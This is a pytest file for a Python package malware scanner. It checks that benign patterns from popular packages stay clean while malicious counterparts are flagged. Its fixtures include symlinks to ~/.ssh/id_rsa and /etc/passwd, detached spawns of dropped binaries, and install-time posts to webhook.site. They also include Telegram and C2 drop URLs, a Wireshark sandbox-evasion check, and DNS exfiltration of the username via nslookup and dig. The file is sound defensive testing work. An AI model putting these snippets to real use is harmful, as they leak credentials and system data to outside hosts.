"""False positives on popular packages, removed by principle: each benign look-alike is rebuilt
as a real sdist or wheel and must not be suspicious, and its malicious counterpart must still
be reported (issues #3 and #5).
"""

from __future__ import annotations

import io
import tarfile

from scanner.model import Context, Severity, VerdictLevel
from scanner.pipeline import scan
from scanner.testing import sdist_bytes, sdist_filename, wheel_bytes, wheel_filename

PKG_INFO = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
SETUP = b"from setuptools import setup\nsetup(name='demo', version='1.0')\n"


def _tar_sdist(links: dict[str, str], files: dict[str, bytes] | None = None) -> bytes:
    """An sdist (top folder ``demo-1.0``) with regular files and symbolic links."""
    files = {"PKG-INFO": PKG_INFO, "setup.py": SETUP, "demo/__init__.py": b"X = 1\n",
             **(files or {})}
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for path, data in files.items():
            info = tarfile.TarInfo(f"demo-1.0/{path}")
            info.size = len(data)
            info.mtime = 1_700_000_000
            tf.addfile(info, io.BytesIO(data))
        for path, target in links.items():
            info = tarfile.TarInfo(f"demo-1.0/{path}")
            info.type = tarfile.SYMTYPE
            info.linkname = target
            info.mtime = 1_700_000_000
            tf.addfile(info)
    return buf.getvalue()


def _scan_sdist(data: bytes):
    return scan(data, filename=sdist_filename("demo", "1.0"))


def _sdist(files: dict[str, str]):
    files = {"setup.py": SETUP.decode(), **files}
    return _scan_sdist(sdist_bytes("demo", "1.0", files))


def _wheel(files: dict[str, str]):
    return scan(wheel_bytes("demo", "1.0", files), filename=wheel_filename("demo", "1.0"))


def _by_rule(result, rule: str) -> list:
    return [f for f in result.findings if f.rule == rule]


# ----- links that stay inside the sdist (pyparsing, docutils, h3, nox, wandb, pre-commit) -----

def test_link_to_another_member_of_the_sdist_is_an_ordinary_link():
    result = _scan_sdist(_tar_sdist(
        {"docs/CHANGES.md": "../CHANGES.md",  # nox, pyparsing: docs/ reuses the top file
         "demo/api/str_api/__init__.py": "../int_api/__init__.py",  # h3
         "tests/data/style.css": "../../demo/style.css"},  # docutils
        {"CHANGES.md": b"# changes\n", "demo/api/int_api/__init__.py": b"X = 1\n",
         "demo/style.css": b"p {}\n"}))
    assert not _by_rule(result, "container.link-escape")
    links = _by_rule(result, "container.link")
    assert {f.path for f in links} == {"demo-1.0/docs/CHANGES.md",
                                        "demo-1.0/demo/api/str_api/__init__.py",
                                        "demo-1.0/tests/data/style.css"}
    assert all(f.severity is Severity.LOW for f in links)
    assert result.verdict.level is VerdictLevel.CLEAN


def test_links_that_leave_the_sdist_are_still_escapes():
    result = _scan_sdist(_tar_sdist({
        "docs/key": "../../../home/u/.ssh/id_rsa",  # climbs out of the unpack folder
        "top": "../demo-1.0/setup.py",  # leaves the folder pip unpacks into, comes back
        "abs": "/etc/passwd",
        "demo/loop": "..",  # its own parent folder: a loop
        # Lexically inside (x/side/../../z), but side is itself a link to ../../../y, so the
        # real path climbs out: resolved through the other links, as an extractor would.
        "a/b/c/side": "../../../y",
        "a/b/c/esc": "side/../../z",
    }, {"y/f": b"1\n"}))
    escapes = {f.path for f in _by_rule(result, "container.link-escape")}
    assert escapes == {"demo-1.0/docs/key", "demo-1.0/top", "demo-1.0/abs", "demo-1.0/demo/loop",
                       "demo-1.0/a/b/c/esc"}
    assert all(f.severity is Severity.HIGH for f in _by_rule(result, "container.link-escape"))
    assert result.verdict.level is not VerdictLevel.CLEAN


# ----- a detached spawn of fixed system programs (openai's desktop example, issue #3) ---------

LAUNCHER = """\
import subprocess
children = []

def launch(*argv, writer=False):
    child = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL, start_new_session=writer)
    children.append(child)
    return child

launch({first})
launch("dbus-run-session", "--", "openbox")
launch("chromium", "--no-first-run", "--app=http://127.0.0.1:4311/", writer=True)
"""


def test_detached_spawn_of_fixed_system_programs_is_a_lead():
    result = _sdist({"examples/guest/start.py": LAUNCHER.format(
        first='"Xvfb", ":1", "-screen", "0", "1024x768x24"')})
    detached = _by_rule(result, "python.process.detached")
    assert detached and all(f.severity < Severity.HIGH for f in detached)
    assert result.verdict.level is VerdictLevel.CLEAN
    direct = _wheel({"demo/__init__.py": "import subprocess\nsubprocess.Popen(['Xvfb', ':1'], "
                     "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"})
    assert all(f.severity < Severity.HIGH for f in _by_rule(direct, "python.process.detached"))
    assert direct.verdict.level is VerdictLevel.CLEAN


def test_detached_spawn_of_a_dropped_file_or_an_interpreter_stays_high():
    dropped = _sdist({"examples/guest/start.py": LAUNCHER.format(first='"/tmp/.cache/agent"')})
    assert any(f.severity is Severity.HIGH and f.context is Context.IMPORT
               for f in _by_rule(dropped, "python.process.detached"))
    assert dropped.verdict.level is not VerdictLevel.CLEAN
    for command in ("['pythonw', 'helper.pyw']", "['svchost.exe']", "'nohup agent &'",
                    "['wscript', 'run.vbs']", "['agent', '/tmp/x']"):
        result = _wheel({"demo/__init__.py": f"import subprocess\nsubprocess.Popen({command}, "
                         "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"})
        assert any(f.severity is Severity.HIGH for f in
                   _by_rule(result, "python.process.detached")), command
        assert result.verdict.level is not VerdictLevel.CLEAN, command


# ----- local IPC and loopback requests (openai's bridge, fastapi's screenshot scripts) ---------

def test_local_sockets_and_loopback_requests_are_not_network_use():
    code = ("import socket, subprocess, httpx\n"
            "left, right = socket.socketpair()\n"
            "control = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
            "server = subprocess.Popen(['fastapi', 'run', 'docs_src/app.py'])\n"
            "page = httpx.get('http://localhost:8000/docs')\n")
    result = _sdist({"scripts/screenshot.py": code})
    assert {f.confidence.name for f in _by_rule(result, "python.network.socket")} == {"LOW"}
    assert {f.confidence.name for f in _by_rule(result, "python.network.http")} == {"LOW"}
    assert result.verdict.level is VerdictLevel.CLEAN


def test_a_remote_request_next_to_a_spawn_still_chains():
    code = ("import socket, subprocess, httpx\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
            "server = subprocess.Popen(['fastapi', 'run', 'docs_src/app.py'])\n"
            "page = httpx.get('https://docs.example.invalid/docs')\n")
    result = _sdist({"scripts/screenshot.py": code})
    assert result.verdict.level is not VerdictLevel.CLEAN
    assert any(f.rule.startswith("score.chain.") for f in result.verdict.reasons)


# ----- names that only look like indicators (tld's suffix list, scapy's manuf fetcher) ---------

def test_a_surname_and_a_download_url_are_not_obfuscator_or_sandbox_checks():
    code = ("import urllib.request\n"
            "# Submitted by Tim Kramer <tkramer@example.invalid>\n"
            "NOTE = 'Submitted by Tim Kramer'\n"
            "URL = 'https://www.wireshark.org/download/automated/data/manuf'\n"
            "with urllib.request.urlopen(URL) as stream:\n    DATA = stream.read()\n")
    result = _wheel({"demo/tools/generate_manuf.py": code})
    assert not _by_rule(result, "python.obfuscation.commercial")
    assert not _by_rule(result, "python.evasion.vm-check")
    assert result.verdict.level is VerdictLevel.CLEAN


def test_the_kramer_obfuscator_and_a_wireshark_process_check_still_fire():
    kramer = _wheel({"demo/__init__.py": "SOURCE = 'class Kramer():\\n    pass\\n'\n"
                     "exec(SOURCE)\n"})
    assert _by_rule(kramer, "python.obfuscation.commercial")
    check = _wheel({"demo/__init__.py": "import os, sys\n"
                    "if 'wireshark' in os.popen('tasklist').read().lower():\n    sys.exit()\n"})
    assert _by_rule(check, "python.evasion.vm-check")


# ----- test suites that name drop sites as data (langchain, cloudflare, apprise, msal) ---------

TEST_FIXTURES = """\
import requests
BLOCKED = ["webhook.site", "abc123.ngrok.io"]
HOOK = "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz"

def test_blocks_catchers(client):
    assert client.create(url="https://webhook.site/b23a5bbd-c7b0-4ced-a9e2-78ae7889897e")

def test_proxy(pm):
    assert pm.request("GET", "http://16.17.18.19").status == 200

def test_sends(mock):
    requests.post("https://api.telegram.org/bot123456789:abcdefg_hijklmnop/sendMessage")
"""


def test_drop_sites_named_by_a_test_suite_are_test_data():
    result = _sdist({"demo/__init__.py": "X = 1\n", "tests/test_ssrf.py": TEST_FIXTURES})
    # Still reported, as data: the content rules read every member, tests included.
    bots = _by_rule(result, "content.exfil.telegram-bot-api")
    assert bots and bots[0].path.endswith("tests/test_ssrf.py")
    assert _by_rule(result, "content.sink.request-catcher")
    assert result.verdict.level is VerdictLevel.CLEAN


def test_the_same_drop_sites_in_package_code_or_install_code_are_reported():
    in_package = _sdist({"demo/__init__.py": TEST_FIXTURES})
    assert in_package.verdict.level is not VerdictLevel.CLEAN
    # A test module that setup.py imports runs at install: its folder changes nothing.
    installed = _sdist({"setup.py": "import tests.test_ssrf\n" + SETUP.decode(),
                        "tests/__init__.py": "", "tests/test_ssrf.py":
                        "import requests\nrequests.post('https://webhook.site/b23a5bbd')\n"})
    assert installed.verdict.level is VerdictLevel.MALICIOUS


# ----- addresses quoted in text (pyparsing's sample web-server log) ----------------------------

LOG = ('SAMPLE = """\n'
       '195.146.134.15 - - [20/Jan/2003:08:55:36 -0800] "GET /path/to/page.html HTTP/1.0" '
       '200 4649 "http://198.51.100.7/020602/page.html" "Mozilla/4.0"\n'
       '111.111.111.11 - - [16/Feb/2004:04:09:49 -0800] "GET /ads/redirect.htm HTTP/1.1" '
       '304 - "http://198.51.100.8/" "Mozilla/4.0"\n'
       '"""\n')


def test_an_address_quoted_in_a_sample_log_is_a_lead():
    result = _sdist({"examples/httpServerLogParser.py": LOG})
    raw = _by_rule(result, "python.network.raw-ip")
    assert raw and all(f.confidence.name == "LOW" for f in raw)
    assert result.verdict.level is VerdictLevel.CLEAN


def test_addresses_listed_one_per_line_or_alone_are_endpoints():
    listed = _wheel({"demo/__init__.py": "SERVERS = '''http://203.0.113.5:80\n"
                     "http://203.0.113.6:8888\n'''\n"})
    alone = _wheel({"demo/__init__.py": "C2 = 'http://203.0.113.5:8080/upload'\n"})
    for result in (listed, alone):
        raw = _by_rule(result, "python.network.raw-ip")
        assert raw and all(f.confidence.name != "LOW" for f in raw)
        assert result.verdict.level is not VerdictLevel.CLEAN


# ----- a tool that recognises PyArmor-protected code (ddtrace) is not protected by it ---------

DETECTOR = '''"""Detect code objects protected by a bytecode obfuscator (e.g. PyArmor)."""
import sys

# Legacy PyArmor calls module-level __armor_enter__; modern PyArmor references its runtime.
_RUNTIME_MODULE_PREFIXES = ("pytransform", "pyarmor_runtime")


def runtime_loaded():
    # a concurrent `import pyarmor_runtime_...` may still be running
    return any(n.startswith(_RUNTIME_MODULE_PREFIXES) for n in sys.modules)
'''

PROTECTED = ("# Pyarmor 8.5.0 (trial), 000000, 2024-01-01T00:00:00.000000\n"
             "from pyarmor_runtime_000000 import __pyarmor__\n"
             "__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b')\n")


def test_naming_pyarmor_without_running_its_runtime_is_a_lead():
    result = _wheel({"demo/internal/obfuscation.py": DETECTOR,
                     "demo/coverage.py": "# skip code objects obfuscated by PyArmor\nX = 1\n"})
    assert not _by_rule(result, "content.obfuscation.pyarmor")
    named = _by_rule(result, "python.obfuscation.commercial")
    assert named and all(f.confidence.name == "LOW" for f in named)
    assert result.verdict.level is VerdictLevel.CLEAN


def test_code_that_runs_the_pyarmor_runtime_is_still_unreviewable():
    result = _wheel({"demo/__init__.py": PROTECTED})
    assert _by_rule(result, "content.obfuscation.pyarmor")
    assert any(f.confidence.name != "LOW" for f in _by_rule(result,
                                                             "python.obfuscation.commercial"))
    assert result.verdict.level is not VerdictLevel.CLEAN


# ----- build tools named through a helper or a parser generator (ckzg, cython) -----------------

GET_MAKE = '''\
from os import environ
from subprocess import check_call
from setuptools import setup
from setuptools.command.build_ext import build_ext


def get_make():
    """GNU make; honours $MAKE."""
    if "MAKE" in environ:
        return environ["MAKE"]
    return {tool}


class CustomBuild(build_ext):
    def run(self):
        check_call([get_make(), "-C", "src", "blst"])
        super().run()


setup(name="demo", cmdclass={{"build_ext": CustomBuild}})
'''


def test_a_helper_that_returns_a_build_tool_runs_that_tool():
    result = _sdist({"setup.py": GET_MAKE.format(tool='"make"')})
    assert not _by_rule(result, "python.process.spawn")
    assert result.verdict.level is VerdictLevel.CLEAN
    pgen = _sdist({"setup.py": "import os, subprocess\nfrom shutil import which\n"
                   "from setuptools import setup\npgen = which('pgen')\n"
                   "if pgen:\n    subprocess.check_call([pgen, 'Grammar', 'graminit.c'])\n"
                   "setup(name='demo')\n"})
    assert not _by_rule(pgen, "python.process.spawn")
    assert pgen.verdict.level is VerdictLevel.CLEAN


def test_a_helper_that_returns_a_dropped_program_is_still_a_spawn_at_install():
    result = _sdist({"setup.py": GET_MAKE.format(tool='"/tmp/.x/agent"')})
    assert any(f.context is Context.INSTALL for f in _by_rule(result, "python.process.spawn"))
    assert result.verdict.level is not VerdictLevel.CLEAN


# ----- ``host`` as an option value is not a DNS lookup (ckzg's emscripten build) -------------

def test_host_as_an_option_value_is_not_a_dns_command():
    code = ("import subprocess\nsubprocess.check_call('docker run --userns=host --network=none "
            "--rm emscripten/emsdk sh -c make', shell=True)\n")
    result = _sdist({"bindings/build.py": code})
    assert not _by_rule(result, "python.network.dns")


def test_dns_tools_run_as_commands_are_still_dns_lookups():
    for code in ("import os, getpass\nos.system('nslookup ' + getpass.getuser() + "
                 "'.x.example.invalid')\n",
                 "import subprocess, socket\nsubprocess.run('dig ' + socket.gethostname() + "
                 "'.x.example.invalid', shell=True)\n",
                 "import os, getpass\nos.system('cmd /c \"host ' + getpass.getuser() + "
                 "'.x.example.invalid\"')\n"):
        result = _wheel({"demo/__init__.py": code})
        assert _by_rule(result, "python.network.dns"), code
